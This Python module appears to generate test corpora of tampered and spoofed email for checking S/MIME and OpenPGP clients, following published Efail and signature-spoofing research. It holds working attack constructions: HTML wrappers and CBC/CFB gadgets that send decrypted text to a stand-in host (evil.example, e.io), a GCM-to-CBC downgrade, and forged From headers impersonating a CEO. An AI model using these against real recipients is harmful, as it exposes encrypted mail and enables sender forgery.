"""Mail that was changed on its way, or pretends to be signed, as papers describe it:

- Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels", 2018;
- Müller et al., "Re: What's Up Johnny?" (decryption and signing oracles), 2019, and "Johnny, you are fired!", 2019;
- Strenzke, Roth, "Legacy encryption downgrade attacks against LibrePGP and CMS", 2024.

Each maker returns a MIME entity.
"""
import functools
import operator
import os
import subprocess

import messages
from ber import closed, der, elements, opened
from messages import multipart

HTML = b"Content-Type: text/html\r\n\r\n"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe secret is 42.\r\n"


def pkcs7(structure, kind="enveloped-data", more=b""):
    return (f'Content-Type: application/pkcs7-mime; smime-type={kind}; name="smime.p7m"\r\n'
            'Content-Transfer-Encoding: base64\r\n\r\n').encode() + messages.base64_lines(structure) + more


# --- around something encrypted ---

def around(kind, *parts):
    return f'Content-Type: {kind}; boundary="around"\r\n\r\n'.encode() + multipart("around", *(part.rstrip(b"\r\n") for part in parts))


def attached(entity):
    return b"Content-Type: message/rfc822\r\n\r\nFrom: <bob@partner.example>\r\nMIME-Version: 1.0\r\n" + entity


BEGIN, END = HTML + b'<img src="http://evil.example/', HTML + b'">'

WRAPPED = {
    "direct exfiltration": lambda sealed: around("multipart/mixed", BEGIN, sealed, END),
    "direct exfiltration, related": lambda sealed: around("multipart/related", BEGIN, sealed, END),
    "direct exfiltration, alternative": lambda sealed: around("multipart/alternative", BEGIN, sealed, END),
    "direct exfiltration by a form": lambda sealed: around("multipart/mixed", HTML + b'<form action="http://evil.example"><textarea name="a">',
                                                           sealed, HTML + b"</textarea>"),
    "below a question": lambda sealed: around("multipart/mixed", TEXT, sealed),
    "above hidden text": lambda sealed: around("multipart/mixed", sealed, HTML + b"<div style=display:none>"),
    "alone in a multipart": lambda sealed: around("multipart/mixed", sealed),
    "shown by its Content-ID": lambda sealed: around('multipart/related; start="<a@b>"', HTML + b"<iframe src=cid:x@y>",
                                                     b"Content-ID: <x@y>\r\n" + sealed),
    "in an attached message": lambda sealed: around("multipart/mixed", TEXT, attached(sealed)),
    "as an attached message": attached,
    "as what was signed": lambda sealed: around('multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256', sealed,
                                                b"Content-Type: application/pkcs7-signature\r\n\r\n"),
    "in multipart/encrypted of another kind": lambda sealed: around('multipart/encrypted; protocol="application/x"',
                                                                    b"Content-Type: application/x\r\n\r\n", sealed),
    "with two types": lambda sealed: b"Content-Type: text/html\r\n" + sealed,
    "with two types, the other way round": lambda sealed: sealed.replace(b"\r\n\r\n", b"\r\nContent-Type: text/html\r\n\r\n", 1),
    "with two encodings": lambda sealed: sealed.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n", 1),
}

# --- the ciphertext of S/MIME ---


def change_ciphertext(structure, change):
    """`change` gets the IV and the ciphertext of EnvelopedData, and returns both."""
    kind, parts = opened(structure)
    tag, content = parts[2]
    kind_of, algorithm, (content_tag, ciphertext) = elements(content)
    oid, (iv_tag, iv) = elements(algorithm[1])
    iv, ciphertext = change(iv, ciphertext)
    parts[2] = tag, der(*kind_of) + der(0x30, der(*oid), der(iv_tag, iv)) + der(content_tag, ciphertext)
    return closed(kind, parts)


def blocks_of(text):
    return [text[at:at + 16] for at in range(0, len(text), 16)]


def by_blocks(change):
    def changed(iv, ciphertext):
        blocks = [iv, *blocks_of(ciphertext)]
        blocks = change(blocks)
        return blocks[0], b"".join(blocks[1:])
    return changed


def xor(*strings):
    return bytes(functools.reduce(operator.xor, column) for column in zip(*strings))


def with_gadgets(known, *wanted, at=12):
    """§4.1: chosen blocks in the middle, each behind one of random bytes. `known`: the first block of the text."""
    def change(blocks):
        made = [block for text in wanted for block in (xor(blocks[0], known, text), blocks[1])]
        return [*blocks[:at], *made, *blocks[at:]]
    return by_blocks(change)


def with_other_first_block(known, wanted):
    return by_blocks(lambda blocks: [xor(blocks[0], known, wanted), *blocks[1:]])


KNOWN = b"Content-Type: te"
CBC = {
    "gadgets in the middle": with_gadgets(KNOWN, b'<img ignore="123', b'" src=//evil/?aa'),
    "one gadget": with_gadgets(KNOWN, b"<img src=//e.io/"),
    "gadgets before everything": with_gadgets(KNOWN, b"Content-Type: te", b"xt/html\r\n\r\n<img ", at=1),
    "gadget at the end": with_gadgets(KNOWN, b'">\r\n\r\n' + b"\x0a" * 10, at=10_000),
    "two blocks change places": by_blocks(lambda b: [*b[:5], b[6], b[5], *b[7:]]),
    "a block is there twice": by_blocks(lambda b: [*b[:5], b[4], *b[5:]]),
    "a block is missing": by_blocks(lambda b: [*b[:5], *b[6:]]),
    "cut short, with the old end": by_blocks(lambda b: [*b[:9], *b[-2:]]),
    "cut short": by_blocks(lambda b: b[:9]),
    "the whole behind itself": by_blocks(lambda b: [*b, *b[1:]]),
    "the text in front is gone": by_blocks(lambda b: b[6:]),
    "another first block": with_other_first_block(KNOWN, b"Subject: evil\r\nX"),
    "a comment for a type": with_other_first_block(KNOWN, b"X-Content-Type: "),
    "a bit in a block": by_blocks(lambda b: [*b[:7], bytes([b[7][0] ^ 1]) + b[7][1:], *b[8:]]),
}


def as_type(structure, oid):
    _, parts = opened(structure)
    return closed(oid, parts)


AUTHENVELOPED, ENVELOPED = bytes.fromhex("2a864886f70d0109100117"), bytes.fromhex("2a864886f70d010703")
CBC_256 = bytes.fromhex("60864801650304012a")


def gcm_as_cbc(structure):
    """The downgrade: the same ciphertext, as if it were of CBC."""
    _, parts = opened(structure)
    kind, algorithm, ciphertext = elements(parts[2][1])
    octets = ciphertext[1][:len(ciphertext[1]) // 16 * 16]
    content = der(*kind) + der(0x30, der(0x06, CBC_256), der(0x04, os.urandom(16))) + der(ciphertext[0], octets)
    return closed(ENVELOPED, [(0x02, b"\0"), parts[1], (0x30, content)])


def gcm_with_short_tag(structure):
    """RFC 5084 allows twelve bytes; whoever guesses needs fewer tries."""
    kind, parts = opened(structure)
    of, algorithm, ciphertext = elements(parts[2][1])
    oid, (_, parameters) = elements(algorithm[1])
    nonce = elements(parameters)[0]
    parts[2] = 0x30, der(*of) + der(0x30, der(*oid), der(0x30, der(*nonce))) + der(*ciphertext)
    parts[-1] = parts[-1][0], parts[-1][1][:12]
    return closed(kind, parts)


def gcm_without_tag(structure):
    kind, parts = opened(structure)
    return closed(kind, parts[:-1])


def gcm_with_attributes(structure):
    """Authenticated attributes would be authenticated, too."""
    kind, parts = opened(structure)
    attribute = der(0x30, der(0x06, bytes.fromhex("2a864886f70d010903")), der(0x31, der(0x06, bytes.fromhex("2a864886f70d010701"))))
    return closed(kind, [*parts[:3], (0xa1, attribute), *parts[3:]])


def with_plain_text(structure):
    """Attributes that nobody has signed, which some programs show."""
    kind, parts = opened(structure)
    attribute = der(0x30, der(0x06, bytes.fromhex("2a864886f70d01090d")), der(0x31, der(0x0c, b"Please pay.")))
    return closed(kind, [(0x02, b"\x02"), *parts[1:], (0xa1, attribute)])


def without_readers(structure):
    kind, parts = opened(structure)
    return closed(kind, [parts[0], (0x31, b""), *parts[2:]])


GCM = {
    "GCM as CBC": gcm_as_cbc,
    "GCM in EnvelopedData": lambda structure: as_type(structure, ENVELOPED),
    "a shorter tag": gcm_with_short_tag,
    "no tag": gcm_without_tag,
    "attributes added": gcm_with_attributes,
    "without readers": without_readers,
}
STRUCTURE = {
    "CBC in AuthEnvelopedData": lambda structure: as_type(structure, AUTHENVELOPED),
    "attributes that nobody signed": with_plain_text,
    "EncryptedData": lambda structure: as_type(structure, bytes.fromhex("2a864886f70d010706")),
    "SignedAndEnvelopedData": lambda structure: as_type(structure, bytes.fromhex("2a864886f70d010704")),
    "text behind the structure": lambda structure: structure + b"\r\nPlease pay.\r\n",
    "two structures": lambda structure: structure + structure,
}

# --- the packets of OpenPGP (RFC 9580 §4) ---


def packets(data):
    """[(tag, body)]; partial lengths are joined."""
    found, at = [], 0
    while at < len(data):
        tag, body = data[at] & 0x3f, b""
        is_old = not data[at] & 0x40
        at += 1
        if is_old:
            size = {0: 1, 1: 2, 2: 4}[tag & 3]
            length, at, tag = int.from_bytes(data[at:at + size], "big"), at + size, tag >> 2
            body, at = data[at:at + length], at + length
        else:
            partial = True
            while partial:
                first = data[at]
                partial = 224 <= first < 255
                if first < 192:
                    length, at = first, at + 1
                elif first < 224:
                    length, at = (first - 192 << 8) + data[at + 1] + 192, at + 2
                elif first == 255:
                    length, at = int.from_bytes(data[at + 1:at + 5], "big"), at + 5
                else:
                    length, at = 1 << (first & 31), at + 1
                body, at = body + data[at:at + length], at + length
        found.append((tag, body))
    return found


def packet(tag, body):
    return bytes([0xc0 | tag, 255]) + len(body).to_bytes(4, "big") + body


def armored(data):
    return (b"-----BEGIN PGP MESSAGE-----\r\n\r\n" + messages.base64_lines(data) + b"-----END PGP MESSAGE-----\r\n")


LITERAL = packet(11, b"b\0\0\0\0\0Content-Type: text/plain\r\n\r\nPlease pay.\r\n")


def rebuilt(change):
    """`change` gets the packets of an encrypted message and returns bytes."""
    return lambda data: change(packets(data))


def joined(found):
    return b"".join(packet(*each) for each in found)


def of_encrypted(change, tag=18):
    """`change` gets the body of the encrypted packet; `tag`: what it becomes."""
    return rebuilt(lambda found: joined(found[:-1]) + packet(tag, change(found[-1][1])))


def cfb_gadget(body):
    """§5: the known beginning becomes an HTML part; in CFB, bytes change where the ciphertext does, and the block behind is random."""
    at = 1 + 18 + 32
    return body[:at] + bytes(byte ^ mask for byte, mask in zip(body[at:at + 16], b"<img src=//e.io/")) + body[at + 16:]


PGP = {
    "without its MDC": of_encrypted(lambda body: body[:-22]),
    "another MDC": of_encrypted(lambda body: body[:-1] + bytes([body[-1] ^ 1])),
    "as a packet of old": of_encrypted(lambda body: body[1:], tag=9),
    "as a packet of old, without its MDC": of_encrypted(lambda body: body[1:-22], tag=9),
    "of an unknown version": of_encrypted(lambda body: b"\x07" + body[1:]),
    "a gadget in CFB": of_encrypted(cfb_gadget),
    "cut short": of_encrypted(lambda body: body[:-40]),
    "text behind": lambda data: data + LITERAL,
    "text before": lambda data: LITERAL + data,
    "text within compression behind": lambda data: data + packet(8, b"\0" + LITERAL),
    "two messages": lambda data: data + data,
    "a marker and text": lambda data: packet(10, b"PGP") + LITERAL + data,
    "no packet but text": lambda data: LITERAL,
    "compressed, not encrypted": lambda data: packet(8, b"\0" + LITERAL),
    "as GnuPG's own packet": of_encrypted(lambda body: body, tag=20),
    "readers alone": rebuilt(lambda found: joined(found[:-1])),
}
PGP_WORDS = {
    "for a password": ("--batch", "--passphrase", "any", "--pinentry-mode", "loopback", "--symmetric"),
    "signed, not encrypted": ("--sign",),
}

# --- signatures of S/MIME ---


def signer_with(structure, tag, attribute):
    """Adds attributes that the signature does not cover to the first signer."""
    kind, parts = opened(structure)
    (_, signer), *others = elements(parts[-1][1])
    parts[-1] = parts[-1][0], der(0x30, signer, der(tag, attribute)) + b"".join(der(*each) for each in others)
    return closed(kind, parts)


def note(text):
    """An attribute with a text: unstructuredName."""
    return der(0x30, der(0x06, bytes.fromhex("2a864886f70d010902")), der(0x31, der(0x0c, text)))


def two_signers(structure, other, damaged):
    """The second signer is taken from another structure, and may not fit any more."""
    kind, parts = opened(structure)
    _, theirs = opened(other)
    (tag, signer), = elements(theirs[-1][1])
    signer = signer[:-1] + bytes([signer[-1] ^ damaged])
    certificates = parts[3][1] + theirs[3][1]
    parts[3] = parts[3][0], certificates
    parts[-1] = parts[-1][0], parts[-1][1] + der(tag, signer)
    return closed(kind, parts)


def detached(entity, structure):
    return (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"\r\n\r\n'
            b"--s\r\n" + entity + b"\r\n--s\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + messages.base64_lines(structure) + b"\r\n--s--\r\n")


def sign(path, entity, *words):
    """What openssl makes of it, as DER."""
    made = subprocess.run(["openssl", "cms", "-sign", "-binary", "-signer", path, "-inkey", path.with_suffix(".key"), "-outform", "DER",
                           *words], input=entity, capture_output=True, check=True)
    return made.stdout


PAY = b"Content-Type: text/plain\r\n\r\nPlease pay.\r\n"

# What is sent, made of the certificates of Bob and Eve, and what is wanted of Bob's signature; None: nothing is said about any.
# Text around the parts of a multipart is shown by no program (RFC 2046 §5.1.1).
SIGNATURES = {
    "of the author": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)), "pass"),
    "opaque": (lambda bob, eve: pkcs7(sign(bob, TEXT, "-nodetach"), "signed-data"), "pass"),
    "notes that it does not cover": (lambda bob, eve: detached(TEXT, signer_with(sign(bob, TEXT), 0xa1, note(b"Pay."))), "pass"),
    "content of its own in a detached one": (lambda bob, eve: detached(PAY, sign(bob, TEXT, "-nodetach")), "neutral"),
    "the same content in a detached one": (lambda bob, eve: detached(TEXT, sign(bob, TEXT, "-nodetach")), "neutral"),
    "of another text": (lambda bob, eve: detached(PAY, sign(bob, TEXT)), "fail"),
    "content of another type": (lambda bob, eve: pkcs7(sign(bob, TEXT, "-nodetach", "-econtent_type", "1.2.840.113549.1.9.16.1.4"),
                                                       "signed-data"), "neutral"),
    "opaque without content": (lambda bob, eve: pkcs7(sign(bob, TEXT), "signed-data"), "neutral"),
    "opaque, other text behind": (lambda bob, eve: pkcs7(sign(bob, TEXT, "-nodetach") + PAY, "signed-data"), None),
    "opaque beside other text": (lambda bob, eve: around("multipart/mixed", pkcs7(sign(bob, TEXT, "-nodetach"), "signed-data"), PAY), None),
    "opaque within other text by its Content-ID": (lambda bob, eve: around(
        "multipart/related", HTML + b"Please pay.<!--", pkcs7(sign(bob, TEXT, "-nodetach"), "signed-data")), None),
    "of Eve": (lambda bob, eve: detached(TEXT, sign(eve, TEXT)), "policy"),
    "of Eve, with Bob's certificate": (lambda bob, eve: detached(TEXT, sign(eve, TEXT, "-certfile", bob)), "policy"),
    "of both": (lambda bob, eve: detached(TEXT, two_signers(sign(eve, TEXT), sign(bob, TEXT), 0)), "pass"),
    "of Eve, Bob's is broken": (lambda bob, eve: detached(TEXT, two_signers(sign(eve, TEXT), sign(bob, TEXT), 1)), "fail"),
    "of Eve, Bob's is of another text": (lambda bob, eve: detached(PAY, two_signers(sign(eve, PAY), sign(bob, TEXT), 0)), "fail"),
    "without certificate, Eve's beside it": (lambda bob, eve: detached(TEXT, sign(bob, TEXT, "-nocerts", "-certfile", eve)), "neutral"),
    "in an alternative": (lambda bob, eve: around("multipart/alternative", detached(TEXT, sign(bob, TEXT)), PAY), None),
    "in an attached message": (lambda bob, eve: around("multipart/mixed", PAY, attached(detached(TEXT, sign(bob, TEXT)))), None),
    "as the only attached message": (lambda bob, eve: attached(detached(TEXT, sign(bob, TEXT))), None),
    "with other text before it": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)).replace(b"--s\r\n", b"Please pay.\r\n--s\r\n", 1), "pass"),
    "with a part before it": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)).replace(
        b"--s\r\n", b"--s\r\n" + PAY + b"--s\r\n", 1), None),
    "with a part behind it": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)).replace(b"\r\n--s--", b"\r\n--s\r\n" + PAY + b"--s--"), None),
    "with text behind it": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)) + b"Please pay.\r\n", "pass"),
    "the signature first": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)).replace(b"application/pkcs7-signature\r\n", b"text/plain\r\n"), None),
    "two types": (lambda bob, eve: b"Content-Type: text/html\r\n" + detached(TEXT, sign(bob, TEXT)), None),
    "two boundaries": (lambda bob, eve: detached(TEXT, sign(bob, TEXT)).replace(b'boundary="s"', b'boundary="s"; boundary="t"'), "neutral"),
    "digest of no text": (lambda bob, eve: detached(TEXT, sign(bob, b"")), "fail"),
    "opaque, SHA-1": (lambda bob, eve: pkcs7(sign(bob, TEXT, "-nodetach", "-md", "sha1"), "signed-data"), "policy"),
    "certificates alone": (lambda bob, eve: pkcs7(closed(bytes.fromhex("2a864886f70d010702"), [
        (0x02, b"\x01"), (0x31, b""), (0x30, der(0x06, bytes.fromhex("2a864886f70d010701"))), opened(sign(bob, TEXT))[1][3], (0x31, b"")]),
        "certs-only"), "neutral"),
}

# Who From says wrote it, when Bob signed, and what is wanted of the signature.
AUTHORS = {
    "Bob": ("<{bob}>", "pass"),
    "Bob, with a name": ('"Bob" <{bob}>', "pass"),
    "somebody else": ("<ceo@example.com>", "policy"),
    "Bob as a name": ('"{bob}" <ceo@example.com>', "policy"),
    "Bob as a name in brackets": ('"<{bob}>" <ceo@example.com>', "policy"),
    "Bob as a comment": ("ceo@example.com (<{bob}>)", "policy"),
    "Bob as a name without quotes": ("{bob} <ceo@example.com>", "policy"),
    "Bob second": ("<ceo@example.com>, <{bob}>", "policy"),
    "Bob in a group": ("Managers: <{bob}>, <ceo@example.com>;", "policy"),
    "Bob as a route": ("<@{bob}:ceo@example.com>", "policy"),
    "Bob's address as a local part": ('<"{bob}"@evil.example>', "policy"),
    "Bob's domain goes on": ("<{bob}.evil.example>", "policy"),
    "a second field": ("<{bob}>\r\nFrom: <ceo@example.com>", "policy"),
    "a second field in capitals": ("<{bob}>\r\nFROM: <ceo@example.com>", "policy"),
    "a second field without an address": ("<{bob}>\r\nFrom: The CEO", "policy"),
    "Bob only sent it": ("<ceo@example.com>\r\nSender: <{bob}>", "policy"),
    "Bob wants the answer": ("<ceo@example.com>\r\nReply-To: <{bob}>", "policy"),
    "in an encoded word": ("=?utf-8?q?=3C{bob}=3E?= <ceo@example.com>", "policy"),
    "nobody": ("undisclosed-senders:;", "policy"),
}
